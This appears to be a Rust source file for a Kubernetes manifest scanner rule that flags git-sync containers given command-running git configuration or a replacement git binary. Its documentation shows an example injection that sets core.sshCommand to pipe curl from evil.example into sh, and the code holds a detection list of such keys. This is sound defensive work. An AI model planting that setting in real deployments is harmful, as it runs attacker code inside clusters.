use bulkhead_model::{Container, Node, Object};

use crate::rules::common::describe;
use crate::{declare_check, Compliance, Context, Family, Run, Severity, Sink};

declare_check! {
    /// ## What it checks
    /// git-sync containers (an image whose repository path ends in `git-sync`) given a git
    /// configuration or a git program that runs commands:
    /// - `--git-config` / `GITSYNC_GIT_CONFIG` / `GIT_SYNC_GIT_CONFIG` that sets a key git
    ///   executes or that loads more configuration: `core.sshCommand`, `core.gitProxy`,
    ///   `core.fsmonitor`, `core.hooksPath`, `core.pager`, `core.editor`, `core.askPass`,
    ///   `credential.helper` (and `credential.<url>.helper`), `sequence.editor`,
    ///   `diff.external`, `uploadpack.packObjectsHook`, `protocol.ext.allow`, `gpg.program`
    ///   (and `gpg.<format>.program`), `filter.<driver>.clean|smudge|process`,
    ///   `diff.<driver>.textconv|command`, `merge.<driver>.driver`, `include.path` and
    ///   `includeIf.<condition>.path`;
    /// - `--git` / `GITSYNC_GIT` / `GIT_SYNC_GIT`, which replaces the git binary git-sync runs;
    /// - any of these environment variables taken from a ConfigMap or Secret (`valueFrom`),
    ///   which hands the setting to whoever may edit that object; the value itself is not in
    ///   the scan, so it is reported as not judged.
    ///
    /// Flags are read in `--flag=value`, `--flag value` and single-dash forms; a git-config
    /// value is split at unescaped commas into `key:value` pairs, as git-sync does.
    ///
    /// ## Why it matters
    /// git-sync runs git with the configuration it is given. Whoever can set that
    /// configuration (edit the workload, its ConfigMap, or a Helm value feeding it) runs any
    /// command in the git-sync container, with its service account, its SSH keys and the
    /// volume it shares with the application. Akamai's research presented at DEF CON 32
    /// (August 2024) showed both paths (`GITSYNC_GIT_CONFIG` with `core.sshCommand`, and
    /// `GITSYNC_GIT` naming another program); the Kubernetes maintainers treat it as
    /// by-design, so the defence is to keep these settings out of git-sync deployments.
    ///
    /// ## Example
    /// ```yaml
    /// containers:
    ///   - name: git-sync
    ///     image: registry.k8s.io/git-sync/git-sync:v4.2.4
    ///     env:
    ///       - name: GITSYNC_GIT_CONFIG
    ///         value: "core.sshCommand:sh -c 'curl evil.example | sh'"
    /// ```
    ///
    /// Use instead: pass only data settings, written in the manifest.
    /// ```yaml
    ///     args:
    ///       - --git-config=safe.directory:/tmp/git,http.postBuffer:1048576000
    /// ```
    ///
    /// ## References
    /// - https://www.akamai.com/blog/security-research/2024-august-kubernetes-gitsync-command-injection-defcon
    /// - https://github.com/kubernetes/git-sync (the `--git-config` and `--git` flags)
    /// - MITRE ATT&CK T1059 (Command and Scripting Interpreter; outside ATT&CK for Containers, so not mapped)
    pub static GIT_SYNC_COMMAND_EXECUTION = Check {
        id: "BHK004",
        slug: "git-sync-command-execution",
        severity: Severity::High,
        family: Family::KnownRisks,
        remediation: "remove the command-running git settings and --git from the git-sync container, and write its git configuration in the manifest rather than in a ConfigMap others can edit",
        compliance: Compliance {
            cis: &[],
            pss: &[],
            nsa: &[],
            mitre: &[],
        },
        run: Run::Object(check),
        reads: crate::Reads::PodSpecs,
    };
}

/// Git configuration keys (lower case) that make git run a program or read more
/// configuration.
const COMMAND_KEYS: &[&str] = &[
    "core.sshcommand",
    "core.gitproxy",
    "core.fsmonitor",
    "core.hookspath",
    "core.pager",
    "core.editor",
    "core.askpass",
    "credential.helper",
    "sequence.editor",
    "diff.external",
    "uploadpack.packobjectshook",
    "protocol.ext.allow",
    "gpg.program",
    "include.path",
];

/// `section.<subsection>.name` keys whose name runs a program, as (section, names).
const SUBSECTION_KEYS: &[(&str, &[&str])] = &[
    ("filter", &["clean", "smudge", "process"]),
    ("diff", &["textconv", "command"]),
    ("merge", &["driver"]),
    ("gpg", &["program"]),
    ("credential", &["helper"]),
    ("includeif", &["path"]),
];

fn runs_commands(key: &str) -> bool {
    let key = key.trim().to_ascii_lowercase();
    if COMMAND_KEYS.contains(&key.as_str()) {
        return true;
    }
    let (Some((section, _)), Some((_, name))) = (key.split_once('.'), key.rsplit_once('.')) else {
        return false;
    };
    SUBSECTION_KEYS
        .iter()
        .any(|(s, names)| *s == section && names.contains(&name))
}

/// The keys of a git-sync `--git-config` value: `key:value` pairs separated by unescaped
/// commas (a comma inside double quotes is part of the value).
fn config_keys(value: &str) -> Vec<String> {
    let mut keys = Vec::new();
    let mut current = String::new();
    let (mut quoted, mut escaped) = (false, false);
    for c in value.chars() {
        match c {
            _ if escaped => {
                escaped = false;
                current.push(c);
            }
            '\\' => escaped = true,
            '"' => quoted = !quoted,
            ',' if !quoted => keys.push(std::mem::take(&mut current)),
            _ => current.push(c),
        }
    }
    keys.push(current);
    keys.into_iter()
        .filter_map(|pair| Some(pair.split_once(':')?.0.trim().to_string()))
        .filter(|k| !k.is_empty())
        .collect()
}

fn is_git_sync(container: &Container<'_>) -> bool {
    container.image().is_some_and(|image| {
        let path = image.split(['@']).next().unwrap_or(image);
        let repository = match path.rsplit_once(':') {
            Some((repo, tag)) if !tag.contains('/') => repo,
            _ => path,
        };
        repository.rsplit('/').next() == Some("git-sync")
    })
}

/// A setting found in the container: its pointer, how it is written, and its value (None
/// when it comes from another object).
struct Found {
    pointer: String,
    written: String,
    value: Option<String>,
    config: bool,
}

fn flag_settings(container: &Container<'_>, out: &mut Vec<Found>) {
    for field in ["command", "args"] {
        let words = container.get(field).map(Node::as_seq).unwrap_or(&[]);
        for (i, word) in words.iter().enumerate() {
            let Some(text) = word.as_str() else {
                continue;
            };
            let name = text.trim_start_matches('-');
            if name.len() == text.len() || text.len() - name.len() > 2 {
                continue;
            }
            let (flag, inline) = match name.split_once('=') {
                Some((flag, value)) => (flag, Some(value.to_string())),
                None => (name, None),
            };
            if flag != "git-config" && flag != "git" {
                continue;
            }
            let (value, pointer) = match inline {
                Some(value) => (Some(value), container.pointer_to(&format!("{field}/{i}"))),
                None => (
                    words.get(i + 1).and_then(Node::scalar_text),
                    container.pointer_to(&format!("{field}/{}", i + 1)),
                ),
            };
            out.push(Found {
                pointer,
                written: format!("--{flag}"),
                // A flag with no following word has an empty value, not one from elsewhere.
                value: Some(value.unwrap_or_default()),
                config: flag == "git-config",
            });
        }
    }
}

fn env_settings(container: &Container<'_>, out: &mut Vec<Found>) {
    let env = container.get("env").map(Node::as_seq).unwrap_or(&[]);
    for (i, entry) in env.iter().enumerate() {
        let Some(name) = entry.get("name").and_then(Node::as_str) else {
            continue;
        };
        let config = match name {
            "GITSYNC_GIT_CONFIG" | "GIT_SYNC_GIT_CONFIG" => true,
            "GITSYNC_GIT" | "GIT_SYNC_GIT" => false,
            _ => continue,
        };
        let (value, pointer) = match entry.get("valueFrom") {
            Some(_) => (None, container.pointer_to(&format!("env/{i}/valueFrom"))),
            None => (
                Some(
                    entry
                        .get("value")
                        .and_then(Node::scalar_text)
                        .unwrap_or_default(),
                ),
                container.pointer_to(&format!("env/{i}/value")),
            ),
        };
        out.push(Found {
            pointer,
            written: name.to_string(),
            value,
            config,
        });
    }
}

fn check(cx: &Context<'_>, object: &Object, sink: &mut Sink<'_>) {
    let Some(pod) = cx.pod_spec(object) else {
        return;
    };
    for container in pod.containers().filter(is_git_sync) {
        let mut found = Vec::new();
        flag_settings(&container, &mut found);
        env_settings(&container, &mut found);
        for setting in found {
            let who = describe(&container);
            let Some(value) = setting.value else {
                sink.report_with(
                    object,
                    &setting.pointer,
                    Severity::Medium,
                    format!(
                        "{who} (git-sync) takes {} from another object: whoever may edit it can make git run commands; its value was not judged",
                        setting.written
                    ),
                );
                continue;
            };
            if !setting.config {
                if value.trim().is_empty() || value.trim() == "git" {
                    continue;
                }
                sink.report(
                    object,
                    &setting.pointer,
                    format!(
                        "{who} (git-sync) runs `{}` instead of git ({}): any program runs in its place",
                        value.trim(),
                        setting.written
                    ),
                );
                continue;
            }
            let risky: Vec<String> = config_keys(&value)
                .into_iter()
                .filter(|k| runs_commands(k))
                .collect();
            if !risky.is_empty() {
                sink.report(
                    object,
                    &setting.pointer,
                    format!(
                        "{who} (git-sync) sets {} through {}: git runs the command it names",
                        risky.join(", "),
                        setting.written
                    ),
                );
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn git_config_keys_are_split_like_git_sync() {
        assert_eq!(
            config_keys(r#"safe.directory:/tmp/git,http.postBuffer:1048576000"#),
            ["safe.directory", "http.postBuffer"]
        );
        assert_eq!(
            config_keys(r#"a.b:"x,y",core.sshCommand:ssh -i k\,v"#),
            ["a.b", "core.sshCommand"]
        );
        assert!(runs_commands("core.sshCommand"));
        assert!(runs_commands("filter.lfs.smudge"));
        assert!(runs_commands("includeIf.gitdir:/x/.path"));
        assert!(!runs_commands("http.sslVerify"));
        assert!(!runs_commands("filter.lfs.required"));
    }
}
